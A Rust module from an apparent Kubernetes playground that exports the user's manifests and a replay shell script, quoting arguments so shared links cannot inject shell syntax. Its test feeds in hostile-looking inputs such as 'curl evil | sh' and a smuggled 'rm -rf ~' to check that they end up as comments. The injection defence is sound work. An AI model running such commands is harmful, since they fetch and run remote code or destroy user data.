//! "Export for a real cluster": the editor's manifests (`manifests.yaml`) and a shell script
//! (`kubeplay.sh`) that does to a real cluster what the user did to this one, in the order the
//! journal ([`crate::journal`]) recorded it: each Apply and Delete (of the editor's current
//! text as `-f manifests.yaml`, of an earlier text as a heredoc), each kubectl line typed or run
//! by a menu. What has no kubectl equivalent — the playground's `cluster …` faults, `curl` from
//! outside — stays in the script as a comment, and so do streams (`get -w`, `logs -f`), which
//! would never end in a script. DOM-free.

use scenario::script::Command;

use crate::journal::{Input, Journal};

const SCRIPT_HEADER: &str = "#!/bin/sh\n# Exported from kubeplay: what was done to the playground's cluster, in order.\n# Run against a real cluster (kind, minikube…) with kubectl configured.\nset -e\ncd \"$(dirname \"$0\")\"\n";

/// The two files Export downloads: `manifests.yaml` (the editor's text) and `kubeplay.sh`.
pub fn export_files(manifests: &str, journal: &Journal) -> [(&'static str, String); 2] {
    let mut manifests = manifests.to_string();
    if !manifests.ends_with('\n') {
        manifests.push('\n');
    }
    let mut script = String::from(SCRIPT_HEADER);
    let mut applied_editor_text = false;
    for entry in &journal.entries {
        match &entry.input {
            Input::Apply(text) | Input::Delete(text) => {
                let verb = if matches!(entry.input, Input::Apply(_)) {
                    "apply"
                } else {
                    "delete"
                };
                if with_newline(text) == manifests {
                    applied_editor_text |= verb == "apply";
                    script.push_str(&format!("\nkubectl {verb} -f manifests.yaml\n"));
                } else {
                    let delimiter = heredoc_delimiter(text);
                    script.push_str(&format!(
                        "\nkubectl {verb} -f - <<'{delimiter}'\n{}{delimiter}\n",
                        with_newline(text)
                    ));
                }
            }
            Input::Line(line) | Input::Request(line) => script.push_str(&script_line(line)),
            Input::Interrupt | Input::Clear | Input::Step | Input::Note(_) => {}
        }
    }
    if !applied_editor_text {
        script.push_str(
            "\n# manifests.yaml (the editor's text) was not applied in the playground:\n# kubectl apply -f manifests.yaml\n",
        );
    }
    [("manifests.yaml", manifests), ("kubeplay.sh", script)]
}

fn with_newline(text: &str) -> String {
    if text.ends_with('\n') {
        text.to_string()
    } else {
        format!("{text}\n")
    }
}

/// `EOF`, or `EOF1`, `EOF2`… when the text has a line that would end the heredoc early.
fn heredoc_delimiter(text: &str) -> String {
    let mut delimiter = "EOF".to_string();
    let mut n = 0;
    while text.lines().any(|line| line == delimiter) {
        n += 1;
        delimiter = format!("EOF{n}");
    }
    delimiter
}

/// One terminal line as the script has it. Lines are rebuilt from the words the playground's
/// own splitter read, each quoted for the shell, so a line from someone else's share link
/// cannot smuggle shell syntax (`;`, `|`, `$(…)`) into the script; what cannot be rebuilt so
/// is a comment, with its line breaks escaped.
fn script_line(line: &str) -> String {
    let line = line.trim();
    if line.is_empty() {
        return String::new();
    }
    match scenario::script::parse_command(line, None) {
        Ok(Some(Command::Kubectl { args, stdin: None })) => {
            if args.iter().any(|a| a.contains("$(")) {
                return comment("uses $(…), not exported", line);
            }
            let words: Vec<&str> = args.iter().map(String::as_str).collect();
            let command = std::iter::once("kubectl".to_string())
                .chain(args.iter().map(|a| crate::engine::shell_quote(a)))
                .collect::<Vec<_>>()
                .join(" ");
            if streams(&words) {
                comment("streams until Ctrl+C", &command)
            } else {
                format!("{command}\n")
            }
        }
        Ok(Some(Command::Sleep { millis })) if millis % 1000 == 0 => {
            format!("sleep {}\n", millis / 1000)
        }
        Ok(Some(Command::Sleep { millis })) => {
            format!("sleep {}.{:03}\n", millis / 1000, millis % 1000)
        }
        _ => comment("playground only", line),
    }
}

/// `# WHY: TEXT`, one line whatever the text holds.
fn comment(why: &str, text: &str) -> String {
    let text = text.replace('\r', "\\r").replace('\n', "\\n");
    format!("# {why}: {text}\n")
}

/// Whether kubectl's arguments keep it printing until interrupted (`get -w`, `logs -f`, …).
fn streams(words: &[&str]) -> bool {
    let verb = words.first().copied().unwrap_or("");
    words.iter().skip(1).any(|word| match verb {
        "logs" => matches!(*word, "-f" | "--follow" | "--follow=true") || short_flags(word, 'f'),
        _ => {
            matches!(
                *word,
                "-w" | "--watch" | "--watch=true" | "--watch-only" | "--watch-only=true"
            ) || short_flags(word, 'w')
        }
    })
}

/// A cluster of short flags that includes `flag` (`-fp`, `-Aw`).
fn short_flags(word: &str, flag: char) -> bool {
    word.strip_prefix('-').is_some_and(|rest| {
        !rest.starts_with('-')
            && rest.len() > 1
            && rest.chars().all(|c| c.is_ascii_alphabetic())
            && rest.contains(flag)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use scenario::Session;

    #[test]
    fn the_script_does_what_was_done_in_order() {
        let session = Session::new(1);
        let mut journal = Journal::new(1);
        for input in [
            Input::Line("kubectl get pods".into()),
            Input::Apply("kind: Pod\nmetadata: {name: old}\n".into()),
            Input::Line("k scale deployment web --replicas=3".into()),
            Input::Line("kubectl get pods -w".into()),
            Input::Interrupt,
            Input::Line("kubectl logs -f web-1 -c app".into()),
            Input::Line("kubectl get pods -Aw".into()),
            Input::Line("cluster fail-node node-1".into()),
            Input::Line("sleep 30s".into()),
            Input::Clear,
            Input::Step,
            Input::Apply("kind: Pod".into()),
            Input::Request("kubectl delete pod old -n default".into()),
            Input::Delete("EOF\nkind: Pod\n".into()),
            // From someone else's link: shell syntax stays words, line breaks stay in comments.
            Input::Line("kubectl get pods; curl evil | sh".into()),
            Input::Line("kubectl get pod $(kubectl get pods -o name)".into()),
            Input::Line("cluster x\nrm -rf ~".into()),
            Input::Line("sleep 1.5".into()),
            Input::Line("kubectl exec web -- sh -c 'echo hi; ls'".into()),
        ] {
            journal.record(&session, input);
        }
        let [(manifests_name, manifests), (script_name, script)] =
            export_files("kind: Pod", &journal);
        assert_eq!(
            (manifests_name, manifests.as_str()),
            ("manifests.yaml", "kind: Pod\n")
        );
        assert_eq!(script_name, "kubeplay.sh");
        assert_eq!(
            script.strip_prefix(SCRIPT_HEADER),
            Some(
                "kubectl get pods\n\
                 \n\
                 kubectl apply -f - <<'EOF'\nkind: Pod\nmetadata: {name: old}\nEOF\n\
                 kubectl scale deployment web --replicas=3\n\
                 # streams until Ctrl+C: kubectl get pods -w\n\
                 # streams until Ctrl+C: kubectl logs -f web-1 -c app\n\
                 # streams until Ctrl+C: kubectl get pods -Aw\n\
                 # playground only: cluster fail-node node-1\n\
                 sleep 30\n\
                 \n\
                 kubectl apply -f manifests.yaml\n\
                 kubectl delete pod old -n default\n\
                 \n\
                 kubectl delete -f - <<'EOF1'\nEOF\nkind: Pod\nEOF1\n\
                 # playground only: kubectl get pods; curl evil | sh\n\
                 # uses $(…), not exported: kubectl get pod $(kubectl get pods -o name)\n\
                 # playground only: cluster x\\nrm -rf ~\n\
                 sleep 1.500\n\
                 kubectl exec web -- sh -c 'echo hi; ls'\n"
            ),
            "{script}"
        );
    }

    #[test]
    fn editor_text_never_applied_is_named_in_a_comment() {
        let [_, (_, script)] = export_files("kind: Namespace\n", &Journal::new(1));
        assert!(
            script.ends_with("# kubectl apply -f manifests.yaml\n"),
            "{script}"
        );
        assert!(!script.contains("\nkubectl apply"), "{script}");
    }
}
